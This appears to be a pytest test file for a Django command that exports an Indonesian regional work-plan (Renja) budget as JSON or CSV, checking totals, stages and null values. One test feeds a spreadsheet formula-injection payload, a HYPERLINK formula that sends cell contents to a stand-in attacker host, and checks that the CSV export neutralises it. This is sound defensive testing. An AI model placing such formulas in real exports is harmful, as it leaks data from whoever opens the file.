"""`renja export renja --tahun 2026 --opd ... --format json|csv` prints rows and the seed's totals."""

import csv
import io
import json

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

OPD = "1.06.0.00.0.00.01.0000"


def export(*args) -> str:
    out = io.StringIO()
    call_command("renja_export", "renja", "--tahun", "2026", "--opd", OPD, *args, stdout=out)
    return out.getvalue()


def test_json_totals_match_the_page(db):
    data = json.loads(export("--format", "json"))
    assert data["tahap"]["jenis"] == "rancangan_akhir"
    assert data["total"]["pagu"] == 26736518416
    assert data["total"]["program"] == {
        "1.06.01": 13652995250,
        "1.06.02": 2387000000,
        "1.06.04": 4962840000,
        "1.06.05": 3040000000,
        "1.06.06": 1901683166,
        "1.06.07": 792000000,
    }
    assert data["total"]["jumlah_program"] == 6
    permakanan = next(r for r in data["rows"] if r["kode"] == "1.06.04.2.01.0001")
    assert permakanan["indikator"] == [
        {
            "uraian": "Jumlah Orang yang Mendapatkan Pemenuhan Kebutuhan Permakanan Sesuai dengan Standar Gizi "
            "Minimal Kewenangan Kabupaten/Kota",
            "target": "500",
            "satuan": "Orang",
        }
    ]
    assert permakanan["pagu"] == 1000000000 and permakanan["pagu_per_sumber_dana"] == {"PAD": 1000000000}
    assert permakanan["unit"] == "Bidang Rehabilitasi Sosial"


def test_json_of_earlier_stage(db):
    data = json.loads(export("--tahap", "rancangan_akhir_rkpd", "--format", "json"))
    permakanan = next(r for r in data["rows"] if r["kode"] == "1.06.04.2.01.0001")
    assert permakanan["indikator"][0]["target"] == "1800"


def test_csv(db):
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    assert rows[-1]["nama"] == "JUMLAH" and rows[-1]["pagu"] == "26736518416"
    assert sum(int(r["pagu"]) for r in rows if r["level"] == "program") == 26736518416


def test_unknown_tahap_is_a_clear_error(db):
    with pytest.raises(CommandError, match="Tahap 'penetapan' tidak ada"):
        export("--tahap", "penetapan")


def test_renja_console_command_dispatches_export(db, capsys):
    from renja.cli import main

    main(["renja", "export", "renja", "--tahun", "2026", "--opd", OPD, "--format", "json"])
    data = json.loads(capsys.readouterr().out)
    assert data["total"]["pagu"] == 26736518416


def test_csv_money_adds_up_with_several_indicators(users, tahap_final):
    from decimal import Decimal

    from renja.perencanaan import services
    from renja.perencanaan.models import RenjaRow
    from renja.perencanaan.services import IndikatorInput, RowInput
    from renja.perencanaan.targets import Target

    row = RenjaRow.objects.get(tahap=tahap_final, kode="1.06.04.2.01.0001")
    data = RowInput(
        kode=row.kode,
        nama=row.nama,
        unit=row.unit,
        pagu={"PAD": Decimal(1000000000)},
        indikator=[
            IndikatorInput(uraian="Jumlah orang", target=Target(nilai=Decimal(500)), satuan="Orang"),
            IndikatorInput(uraian="Jumlah paket", target=Target(nilai=Decimal(12000)), satuan="Paket"),
        ],
    )
    services.subkegiatan_update(actor=users["perencana"], row=row, expected_version=1, data=data)
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"))))
    lines = [r for r in rows if r["kode"] == "1.06.04.2.01.0001"]
    assert [(r["target"], r["satuan"], r["pagu"]) for r in lines] == [
        ("500", "Orang", "1000000000"),
        ("12000", "Paket", ""),
    ]
    assert sum(int(r["pagu"]) for r in rows if r["level"] == "sub_kegiatan" and r["pagu"]) == 26736518416


def test_csv_escapes_formula_in_names(users, tahap_final):
    """Issue 6 defect 9: a name beginning with = (or + - @) went out as is, and a spreadsheet ran it."""
    from decimal import Decimal

    from renja.perencanaan import services
    from renja.perencanaan.models import RenjaRow
    from renja.perencanaan.services import IndikatorInput, RowInput
    from renja.perencanaan.targets import Target

    row = RenjaRow.objects.get(tahap=tahap_final, kode="1.06.04.2.01.0001")
    data = RowInput(
        kode=row.kode,
        nama='=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")',
        unit=row.unit,
        pagu={"PAD": Decimal(1000000000)},
        indikator=[IndikatorInput(uraian="@SUM(1+1)", target=Target(nilai=Decimal(500)), satuan="-Orang")],
    )
    services.subkegiatan_update(actor=users["perencana"], row=row, expected_version=1, data=data)
    rows = list(csv.DictReader(io.StringIO(export("--format", "csv"), newline="")))
    line = next(r for r in rows if r["kode"] == "1.06.04.2.01.0001")
    assert line["nama"] == '\'=HYPERLINK("http://penyerang.example/?d="&A1,"Klik")'
    assert line["indikator"] == "'@SUM(1+1)" and line["satuan"] == "'-Orang"
    assert line["pagu"] == "1000000000" and line["target"] == "500"  # numbers stay numbers


def test_json_keeps_a_missing_pagu_null(db):
    """The 2024 Renja's sub kegiatan without pagu export pagu null (blank), not 0 (issue 11)."""
    out = io.StringIO()
    call_command("renja_export", "renja", "--tahun", "2024", "--opd", OPD, "--format", "json", stdout=out)
    rows = json.loads(out.getvalue())["rows"]
    subs = [r for r in rows if r["level"] == "sub_kegiatan"]
    assert sum(1 for r in subs if r["pagu"] is None) == 48
    assert all(r["pagu"] is None for r in subs if not r["pagu_per_sumber_dana"])
    assert 0 not in [r["pagu"] for r in subs]
